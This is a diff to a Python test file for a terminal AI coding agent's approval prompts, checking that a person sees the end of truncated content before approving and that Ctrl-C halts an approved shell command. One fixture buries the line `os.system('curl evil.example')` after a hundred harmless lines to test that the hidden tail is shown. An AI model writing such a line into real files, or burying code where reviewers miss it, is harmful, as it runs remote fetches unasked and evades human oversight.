@@ -156,8 +156,12 @@ def test_nothing_that_comes_in_speaks_to_the_terminal(tty, leeward):
     assert "\nABCD\nEF\\u{202e}G\\u{200b}HIJK\n" in said
 
 
-def test_a_person_sees_the_end_of_what_is_cut_before_a_yes_counts(tty, leeward):
-    content = "print('fine')\n" * 100 + "import os; os.system('curl evil.example')\n"
+@pytest.mark.parametrize("columns", [80, 40])
+def test_a_person_sees_the_end_of_what_is_cut_before_a_yes_counts(tty, leeward, columns):
+    # At 40 columns each line is folded, and the last screen has fewer of them.
+    content = (
+        "print('long enough to be folded there')\n" * 100 + "import os; os.system('curl evil.example')\n"
+    )
     (leeward.workspace / "model.toml").write_text(
         f"""
         [[reply]]
@@ -167,10 +171,10 @@ def test_a_person_sees_the_end_of_what_is_cut_before_a_yes_counts(tty, leeward):
         """,
         encoding="utf-8",
     )
-    at = tty("--model", "scripted:model.toml", rows=40)
+    at = tty("--model", "scripted:model.toml", rows=60, columns=columns)
     at.prompt()
     at.type("go", ENTER)
-    said = at.see("[s]how all / [n]o")
+    said = at.see("[s]how all / [n]o").replace("\n    ┊ ", "")
     assert "os.system('curl evil.example')" in said and "more characters; it ends with" in said
     assert "[y]es" not in said and "lways" not in said
     at.type("y")
@@ -192,6 +196,25 @@ def test_a_person_sees_the_end_of_what_is_cut_before_a_yes_counts(tty, leeward):
     at.see("done")
     at.prompt()
     assert (leeward.workspace / "long.py").read_text() == content
+
+
+def test_ctrl_c_right_behind_a_yes_stops_what_the_yes_began(tty, leeward):
+    (leeward.workspace / "model.toml").write_text(
+        """
+        [[reply]]
+        calls = [{ tool = "shell", args = { command = "python3 -c 'import time; time.sleep(50)'" } }]
+        [[reply]]
+        text = "it was not stopped"
+        """,
+        encoding="utf-8",
+    )
+    at = tty("--model", "scripted:model.toml")
+    at.prompt()
+    at.type("go", ENTER)
+    at.see("[y]es / [n]o")
+    at.type("y\x03")
+    at.see("■ stopped")
+    assert "it was not stopped" not in at.prompt()
 
 
 def test_a_history_that_cannot_be_used_is_done_without(tmp_path):
